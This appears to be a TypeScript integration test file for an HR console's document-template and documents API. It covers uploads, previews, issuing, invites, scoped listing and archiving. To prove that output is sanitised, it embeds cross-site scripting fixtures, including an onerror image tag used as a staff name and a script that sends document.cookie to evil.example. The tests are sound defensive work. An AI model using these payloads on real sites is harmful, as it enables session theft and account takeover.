/**
 * The console's document templates and documents list through the API (docs/product.md#document-templates,
 * docs/product.md#console-documents): HR uploads templates (HTML checked, PDF checked to be one) and
 * archives them, managers list and preview them and issue from them, the invite takes a stored contract
 * template; a hostile template and a hostile name leave neither a script nor a live event handler in the
 * preview or the issued document; the list of documents and their signed PDFs stay within the scope.
 */
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCommand } from '@server/cli/run-command.js';
import { auditEvents, documents, staff, venues } from '@server/db/schema.js';
import { readOutbox } from '@server/lib/mailer.js';
import { dataUrl, signaturePng, simplePdf } from '../support/fixtures.js';
import { pdfPages } from '../support/pdf-text.js';
import { Browser, signedInBrowser } from './helpers/browser.js';
import { PORTAL } from './helpers/step-up.js';
import { createTestApp, DATABASES, type TestApp } from './helpers/test-app.js';

const api = (p: string) => `${PORTAL}/api${p}`;
const NO_ACCESS = 'You do not have access to the HR console.';
const HOSTILE_NAME = '<img src=x onerror=alert(1)>';
const TEMPLATE_HTML = `<!doctype html><html><head><title>Tips policy</title><script>alert('head')</script></head>
<body><h1 onclick="steal()">Tips policy</h1><p>Dear {{forename}} {{surname}} at {{venue}},</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="x" onerror="alert(3)"><p>Tips are shared by hours worked.</p></body></html>`;
const html = (text: string, filename = 'template.html') => ({
  filename,
  file_data: dataUrl('text/html', Buffer.from(text)),
});

/** Neither a script nor a live event handler: what a browser would run. */
function expectInert(text: string) {
  expect(text).not.toMatch(/<script/i);
  expect(text).not.toMatch(/<[^>]*\son\w+\s*=/i);
  expect(text).not.toMatch(/<img/i);
}

describe.each(DATABASES)('Console documents and templates on %s', (kind) => {
  let t: TestApp & { dataDir: string; dropAll(): Promise<void> };
  const db = () => t.app.database.db;
  const idOf = async (email: string) =>
    (await db().select({ id: staff.id }).from(staff).where(eq(staff.emailAddress, email)))[0]!.id;
  // One session per person for the whole file: sign-in is rate-limited per address.
  const sessions = new Map<string, Promise<Browser>>();
  const signedIn = (email: string) => {
    if (!sessions.has(email)) sessions.set(email, signedInBrowser(t.app, PORTAL, email));
    return sessions.get(email)!;
  };
  const hr = () => signedIn('morgan.hughes@example.com');
  const manager = () => signedIn('riley.evans@example.com');
  let hostile: string;
  let tipsId: string;

  beforeAll(async () => {
    t = await createTestApp(kind);
    const command = (name: string, options: Record<string, unknown>) =>
      runCommand({ services: t.app.services, name, options });
    await command('role grant', { staff: 'riley.evans@example.com', role: 'manager', venue: ['The Lantern, Leeds'] });
    await command('role grant', { staff: 'morgan.hughes@example.com', role: 'hr' });
    // A person at Leeds whose name is an attack on whoever shows it.
    const [leeds] = await db().select({ id: venues.id }).from(venues).where(eq(venues.name, 'The Lantern, Leeds'));
    const added = await (
      await manager()
    ).post(api('/admin/people'), {
      forename: HOSTILE_NAME,
      surname: 'Lee',
      email: `pat.lee.${kind}@example.com`,
      venue_id: leeds!.id,
      position: 'Host',
    });
    expect(added.status, added.body).toBe(200);
    hostile = added.json().data.id;
  });
  afterAll(() => t.dropAll());

  it('refuses every new call to staff without a role (403)', async () => {
    const sam = await signedIn('sam.taylor@example.com');
    const id = '00000000-0000-4000-8000-000000000000';
    for (const res of [
      await sam.get(api('/admin/templates')),
      await sam.post(api('/admin/templates'), { name: 'x', kind: 'contract', template: html('<p>x</p>') }),
      await sam.post(api(`/admin/templates/${id}/preview`), { staff_id: id }),
      await sam.post(api(`/admin/templates/${id}/archive`)),
      await sam.get(api('/admin/documents')),
      await sam.get(api(`/admin/documents/${id}/pdf`)),
      await sam.post(api('/admin/documents'), { kind: 'contract', staff_ids: [id], template_id: id }),
      await sam.post(api('/admin/documents/preview'), { kind: 'contract', staff_id: id, template_id: id }),
    ]) {
      expect(res.status, res.body).toBe(403);
      expect(res.json().errors).toEqual({ message: NO_ACCESS, code: 'FORBIDDEN' });
    }
  });

  it('lets only HR upload a template, checks what is uploaded, and audits it', async () => {
    const refused = await (
      await manager()
    ).post(api('/admin/templates'), { name: 'Tips policy', kind: 'agreement', template: html(TEMPLATE_HTML) });
    expect(refused.status).toBe(403);
    expect(refused.json().errors.message).toBe('Only HR can do that.');

    const uploaded = await (
      await hr()
    ).post(api('/admin/templates'), {
      name: ' Tips policy ',
      kind: 'agreement',
      template: html(TEMPLATE_HTML, 'tips.html'),
    });
    expect(uploaded.status, uploaded.body).toBe(200);
    const tips = uploaded.json().data;
    expect(tips).toMatchObject({
      name: 'Tips policy',
      kind: 'agreement',
      type: 'html',
      filename: 'tips.html',
      created_by: 'Morgan Hughes',
      archived_at: null,
    });
    tipsId = tips.id;
    const [event] = await db().select().from(auditEvents).where(eq(auditEvents.action, 'document_template.uploaded'));
    expect(event).toMatchObject({
      actor: `staff:${await idOf('morgan.hughes@example.com')}`,
      details: { template_id: tips.id, name: 'Tips policy', kind: 'agreement', type: 'html' },
    });

    const bad = async (body: unknown) => (await hr()).post(api('/admin/templates'), body);
    const unknownField = await bad({
      name: 'Pay',
      kind: 'contract',
      template: html('<p>You earn {{salary}} and {{ forename }}.</p>'),
    });
    expect(unknownField.status).toBe(400);
    expect(unknownField.json().errors.message).toContain('merge fields that do not exist: {{salary}}');
    expect(
      (
        await bad({ name: 'Empty', kind: 'contract', template: html('<script>alert(1)</script><style>p{}</style>') })
      ).json().errors.message,
    ).toBe('The template has no text to show.');
    expect(
      (
        await bad({
          name: 'Text',
          kind: 'contract',
          template: { filename: 'notes.txt', file_data: dataUrl('text/plain', Buffer.from('hello')) },
        })
      ).json().errors.message,
    ).toBe('A template must be an .html or a .pdf file.');
    expect(
      (await bad({ name: 'Fake PDF', kind: 'contract', template: html('<p>not a pdf</p>', 'fake.pdf') })).status,
    ).toBe(415);
    expect(
      (
        await bad({
          name: 'Latin-1',
          kind: 'contract',
          template: {
            filename: 'x.html',
            file_data: dataUrl('text/html', Buffer.from([0x3c, 0x70, 0x3e, 0xe9, 0xff, 0x3c])),
          },
        })
      ).status,
    ).toBe(400);
    expect(
      (await bad({ name: 'Not data', kind: 'contract', template: { filename: 'x.html', file_data: 'hello' } })).status,
    ).toBe(400);
    expect((await bad({ name: '  ', kind: 'contract', template: html('<p>x</p>') })).status).toBe(400);
    expect((await bad({ name: 'X', kind: 'letter', template: html('<p>x</p>') })).status).toBe(400);
    const twice = await bad({ name: 'TIPS POLICY', kind: 'agreement', template: html('<p>Other</p>') });
    expect(twice.status).toBe(409);
    expect(twice.json().errors.message).toBe('There is already an agreement template called "TIPS POLICY".');
    // The same name for the other kind is another template.
    expect(
      (
        await bad({
          name: 'Tips policy',
          kind: 'contract',
          template: html('<h1>Contract</h1><p>For {{full_name}}.</p>'),
        })
      ).status,
    ).toBe(200);

    const pdf = await bad({
      name: 'Uniform agreement',
      kind: 'agreement',
      template: {
        filename: 'uniform.pdf',
        file_data: dataUrl('application/pdf', await simplePdf('Uniform agreement')),
      },
    });
    expect(pdf.status, pdf.body).toBe(200);
    expect(pdf.json().data).toMatchObject({ type: 'pdf', filename: 'uniform.pdf' });

    // Managers list them, to issue one.
    const listed = (await (await manager()).get(api('/admin/templates'))).json().data;
    expect(listed.map((each: { name: string; kind: string }) => `${each.kind}:${each.name}`).sort()).toEqual([
      'agreement:Tips policy',
      'agreement:Uniform agreement',
      'contract:Tips policy',
    ]);
  });

  it('previews a template exactly as the person will see it, with neither a script nor a live handler, within the scope', async () => {
    const preview = await (await manager()).post(api(`/admin/templates/${tipsId}/preview`), { staff_id: hostile });
    expect(preview.status, preview.body).toBe(200);
    const shown = preview.json().data;
    expect(shown.title).toBe('Tips policy');
    expect(shown.pdf_uri).toBeNull();
    expect(shown.html).toContain('Dear &lt;img src=x onerror=alert(1)&gt; Lee at The Lantern, Leeds,');
    expect(shown.html).toContain('Tips are shared by hours worked.');
    expectInert(shown.html);
    // The same through the issue flow's preview.
    const same = await (
      await manager()
    ).post(api('/admin/documents/preview'), { kind: 'agreement', staff_id: hostile, template_id: tipsId });
    expect(same.json().data).toEqual(shown);

    const jamie = await idOf('jamie.patel@example.com');
    const outside = await (await manager()).post(api(`/admin/templates/${tipsId}/preview`), { staff_id: jamie });
    expect(outside.status).toBe(404);
    expect(outside.json().errors.message).toBe('That person was not found.');
    expect((await (await hr()).post(api(`/admin/templates/${tipsId}/preview`), { staff_id: jamie })).status).toBe(200);
    for (const id of ['00000000-0000-4000-8000-000000000000', 'not-an-id']) {
      const res = await (await manager()).post(api(`/admin/templates/${id}/preview`), { staff_id: hostile });
      expect(res.status).toBe(404);
      expect(res.json().errors.message).toBe('That template was not found.');
    }
    expect(
      (await (await manager()).post(api(`/admin/templates/${tipsId}/preview`), { staff_id: 'someone' })).status,
    ).toBe(400);

    const templates = (await (await hr()).get(api('/admin/templates'))).json().data;
    const uniform = templates.find((each: { name: string }) => each.name === 'Uniform agreement');
    const pdfPreview = (
      await (await manager()).post(api(`/admin/templates/${uniform.id}/preview`), { staff_id: hostile })
    ).json().data;
    expect(pdfPreview).toMatchObject({
      title: 'Uniform agreement',
      html: null,
      pdf_uri: expect.stringMatching(/^\/api\/rest\/file\/content\/[0-9a-f-]+\?expires=\d+&disposition=inline&sig=/),
    });
    const file = await t.app.inject({ method: 'GET', url: pdfPreview.pdf_uri });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe('application/pdf');
  });

  it('issues a stored template to people in scope: the document is the preview, audited with the template', async () => {
    const sam = await idOf('sam.taylor@example.com');
    const jamie = await idOf('jamie.patel@example.com');
    const m = await manager();
    expect(
      (await m.post(api('/admin/documents'), { kind: 'agreement', staff_ids: [hostile, jamie], template_id: tipsId }))
        .status,
    ).toBe(404);
    expect(await db().select().from(documents).where(eq(documents.staffId, hostile))).toEqual([]);

    for (const body of [
      { kind: 'agreement', staff_ids: [hostile], template_id: tipsId, template: html('<p>x</p>') },
      { kind: 'agreement', staff_ids: [hostile] },
      { kind: 'contract', staff_ids: [hostile], template_id: tipsId },
      { kind: 'agreement', staff_ids: [hostile], template_id: '00000000-0000-4000-8000-000000000000' },
      { kind: 'agreement', staff_ids: [hostile], template_id: 'nope' },
    ]) {
      const res = await m.post(api('/admin/documents'), body);
      expect(res.status, JSON.stringify(body)).toBe(400);
    }
    const wrongKind = await m.post(api('/admin/documents'), {
      kind: 'contract',
      staff_ids: [hostile],
      template_id: tipsId,
    });
    expect(wrongKind.json().errors.fields).toEqual([
      { field: 'template_id', error: 'Choose one of the contract templates' },
    ]);

    const preview = (await m.post(api(`/admin/templates/${tipsId}/preview`), { staff_id: hostile })).json().data;
    const issued = await m.post(api('/admin/documents'), {
      kind: 'agreement',
      staff_ids: [hostile, sam],
      template_id: tipsId,
    });
    expect(issued.status, issued.body).toBe(200);
    const answer: { staff_id: string; document_id: string; link: string }[] = issued.json().data;
    expect(answer.map((each) => each.staff_id).sort()).toEqual([hostile, sam].sort());
    const [doc] = await db().select().from(documents).where(eq(documents.staffId, hostile));
    expect(doc).toMatchObject({ kind: 'agreement', title: 'Tips policy', html: preview.html });
    expectInert(doc!.html!);
    const events = await db()
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.action, 'agreement.issued'), eq(auditEvents.staffId, hostile)));
    expect(events[0]).toMatchObject({
      actor: `staff:${await idOf('riley.evans@example.com')}`,
      details: { template_id: tipsId, document_id: doc!.id },
    });
    const mail = (await readOutbox(t.dataDir)).filter((each) => each.to === `pat.lee.${kind}@example.com`).at(-1)!;
    expect(mail.text).toContain(answer.find((each) => each.staff_id === hostile)!.link);

    // A PDF template is sent as it is, under the template's name.
    const templates = (await m.get(api('/admin/templates'))).json().data;
    const uniform = templates.find((each: { name: string }) => each.name === 'Uniform agreement');
    const pdfIssued = await m.post(api('/admin/documents'), {
      kind: 'agreement',
      staff_ids: [sam],
      template_id: uniform.id,
    });
    expect(pdfIssued.status, pdfIssued.body).toBe(200);
    const [pdfDoc] = await db().select().from(documents).where(eq(documents.id, pdfIssued.json().data[0].document_id));
    expect(pdfDoc).toMatchObject({ title: 'Uniform agreement', html: null, sourceFileId: expect.any(String) });
  });

  it('invites a joiner with a stored contract template, or the built-in one when none is chosen', async () => {
    const [leeds] = await db().select({ id: venues.id }).from(venues).where(eq(venues.name, 'The Lantern, Leeds'));
    const contract = (await (await hr()).get(api('/admin/templates')))
      .json()
      .data.find((each: { kind: string }) => each.kind === 'contract');
    const invite = (email: string, extra: Record<string, unknown> = {}) =>
      manager().then((m) =>
        m.post(api('/admin/joiners'), {
          forename: 'Noor',
          surname: 'Ali',
          email,
          venue_id: leeds!.id,
          position: 'Chef',
          start_date: '2026-12-07',
          ...extra,
        }),
      );

    const wrong = await invite(`noor.a.${kind}@example.com`, { template_id: tipsId });
    expect(wrong.status).toBe(400);
    expect(wrong.json().errors.fields).toEqual([
      { field: 'template_id', error: 'Choose one of the contract templates' },
    ]);
    expect((await invite(`noor.b.${kind}@example.com`, { template_id: 'nope' })).status).toBe(400);

    const invited = await invite(`noor.c.${kind}@example.com`, { template_id: contract.id });
    expect(invited.status, invited.body).toBe(200);
    const [doc] = await db().select().from(documents).where(eq(documents.staffId, invited.json().data.staff_id));
    expect(doc).toMatchObject({ kind: 'contract', title: 'Contract' });
    expect(doc!.html).toContain('For Noor Ali.');
    const [event] = await db()
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.action, 'contract.issued'), eq(auditEvents.staffId, invited.json().data.staff_id)));
    expect(event!.details).toMatchObject({ template_id: contract.id });

    const plain = await invite(`noor.d.${kind}@example.com`);
    expect(plain.status, plain.body).toBe(200);
    const [builtIn] = await db().select().from(documents).where(eq(documents.staffId, plain.json().data.staff_id));
    expect(builtIn!.html).not.toContain('For Noor Ali.');
  });

  it('lists the documents in scope by status, searched and paged, with the signed PDF and its certificate to download', async () => {
    const jamie = await idOf('jamie.patel@example.com');
    const sam = await idOf('sam.taylor@example.com');
    // Jamie (Manchester) has one from HR; Sam signs one of his.
    const forJamie = await (
      await hr()
    ).post(api('/admin/documents'), { kind: 'agreement', staff_ids: [jamie], template_id: tipsId });
    expect(forJamie.status, forJamie.body).toBe(200);
    const jamieDoc = forJamie.json().data[0].document_id as string;
    const forSam = await (
      await manager()
    ).post(api('/admin/documents'), {
      kind: 'agreement',
      staff_ids: [sam],
      template: html('<h1>Locker policy</h1><p>Hello {{forename}}.</p>', 'locker.html'),
    });
    const { link, document_id: signedId } = forSam.json().data[0];
    const token = new URL(link).pathname.split('/').at(-1)!;
    const member = new Browser({ [PORTAL]: t.app });
    // Opened first, as the page does: the answer brings the security cookie the signing needs.
    expect((await member.get(api(`/staff/agreement/${token}?include=rendered`))).status).toBe(200);
    const signed = await member.post(api(`/staff/agreement/${token}`), { signature_data: await signaturePng() });
    expect(signed.status, signed.body).toBe(200);
    // One of the hostile person's expires.
    const [expiring] = await db().select().from(documents).where(eq(documents.staffId, hostile));
    await db()
      .update(documents)
      .set({ expiresAt: new Date(Date.now() - 60_000) })
      .where(eq(documents.id, expiring!.id));

    const m = await manager();
    const all = (await m.get(api('/admin/documents?per_page=100'))).json();
    expect(all.meta.total).toBe(all.data.length);
    expect(all.data.length).toBeGreaterThan(0);
    expect(new Set(all.data.map((each: { person: { venue: string } }) => each.person.venue))).toEqual(
      new Set(['The Lantern, Leeds']),
    );
    expect(all.data.some((each: { id: string }) => each.id === jamieDoc)).toBe(false);

    const signedList = (await m.get(api('/admin/documents?status=signed'))).json().data;
    const locker = signedList.find((each: { id: string }) => each.id === signedId);
    expect(locker).toMatchObject({
      kind: 'agreement',
      title: 'Locker policy',
      status: 'signed',
      person: { id: sam, name: 'Sam Taylor', venue: 'The Lantern, Leeds' },
      signed_pdf: `/api/admin/documents/${signedId}/pdf`,
    });
    expect(locker.signed_at).toEqual(expect.any(String));
    // Sam's page offers the same signed PDF; the unsigned ones none.
    const samsPage = (await m.get(api(`/admin/people/${sam}`))).json().data;
    expect(samsPage.documents.find((each: { id: string }) => each.id === signedId).signed_pdf).toBe(
      `/api/admin/documents/${signedId}/pdf`,
    );
    expect(
      samsPage.documents.filter(
        (each: { signed_at: string | null; signed_pdf: string | null }) => !each.signed_at && each.signed_pdf,
      ),
    ).toEqual([]);
    expect(
      signedList.every(
        (each: { status: string; signed_pdf: string | null }) => each.status === 'signed' && each.signed_pdf,
      ),
    ).toBe(true);
    const expired = (await m.get(api('/admin/documents?status=expired'))).json().data;
    expect(expired.map((each: { id: string }) => each.id)).toContain(expiring!.id);
    expect(
      expired.every(
        (each: { status: string; signed_pdf: null }) => each.status === 'expired' && each.signed_pdf === null,
      ),
    ).toBe(true);
    const unsigned = (await m.get(api('/admin/documents?status=unsigned&per_page=100'))).json().data;
    expect(unsigned.map((each: { id: string }) => each.id)).not.toContain(expiring!.id);
    expect(unsigned.every((each: { status: string }) => each.status === 'unsigned')).toBe(true);

    const searched = (await m.get(api('/admin/documents?search=locker'))).json().data;
    expect(searched.map((each: { id: string }) => each.id)).toEqual([signedId]);
    expect(
      (await m.get(api('/admin/documents?search=SAM%20TAYLOR&status=signed')))
        .json()
        .data.map((each: { id: string }) => each.id),
    ).toContain(signedId);
    expect((await m.get(api('/admin/documents?search=%25'))).json().data).toEqual([]);
    const page2 = (await m.get(api('/admin/documents?per_page=1&page=2'))).json();
    expect(page2.meta).toEqual({ page: 2, per_page: 1, total: all.meta.total });
    expect(page2.data[0].id).toBe(all.data[1].id);
    for (const bad of ['status=lost', 'per_page=1000', 'page=0', `search=${'x'.repeat(101)}`])
      expect((await m.get(api(`/admin/documents?${bad}`))).status, bad).toBe(400);

    const pdf = await m.get(api(locker.signed_pdf.replace(/^\/api/, '')));
    expect(pdf.status).toBe(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.headers['cache-control']).toBe('private, no-store');
    const download = await t.app.inject({
      method: 'GET',
      url: locker.signed_pdf,
      headers: { cookie: [...m.jar(PORTAL)].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    const pages = await pdfPages(download.rawPayload);
    expect(pages.at(-1)).toContain('Signature certificate');
    expect(pages.at(-1)).toContain('Sam Taylor');

    // Another venue's document is not found, exactly as an unknown one; HR fetches it.
    for (const id of [jamieDoc, '00000000-0000-4000-8000-000000000000', 'not-an-id']) {
      const res = await m.get(api(`/admin/documents/${id}/pdf`));
      expect(res.status, id).toBe(404);
      expect(res.json().errors.message).toBe('That document was not found.');
    }
    expect((await (await hr()).get(api(`/admin/documents/${jamieDoc}/pdf`))).status).toBe(200);
    expect(
      (await (await hr()).get(api('/admin/documents?per_page=100')))
        .json()
        .data.some((each: { id: string }) => each.id === jamieDoc),
    ).toBe(true);
  });

  it('lets only HR archive a template: no longer offered or issued, still previewed, audited', async () => {
    expect((await (await manager()).post(api(`/admin/templates/${tipsId}/archive`))).status).toBe(403);
    const archived = await (await hr()).post(api(`/admin/templates/${tipsId}/archive`));
    expect(archived.status, archived.body).toBe(200);
    expect(archived.json().data.archived_at).toEqual(expect.any(String));
    expect((await (await hr()).post(api(`/admin/templates/${tipsId}/archive`))).status).toBe(200);
    const events = await db().select().from(auditEvents).where(eq(auditEvents.action, 'document_template.archived'));
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      actor: `staff:${await idOf('morgan.hughes@example.com')}`,
      details: { template_id: tipsId, name: 'Tips policy' },
    });

    const ids = async (b: Browser, query = '') =>
      (await b.get(api(`/admin/templates${query}`))).json().data.map((each: { id: string }) => each.id);
    expect(await ids(await manager())).not.toContain(tipsId);
    expect(await ids(await manager(), '?archived=true')).not.toContain(tipsId);
    expect(await ids(await hr(), '?archived=true')).toContain(tipsId);
    expect(
      (
        await (
          await manager()
        ).post(api('/admin/documents'), { kind: 'agreement', staff_ids: [hostile], template_id: tipsId })
      ).status,
    ).toBe(400);
    expect(
      (await (await manager()).post(api(`/admin/templates/${tipsId}/preview`), { staff_id: hostile })).status,
    ).toBe(200);
    expect((await (await hr()).post(api('/admin/templates/00000000-0000-4000-8000-000000000000/archive'))).status).toBe(
      404,
    );
  });
});
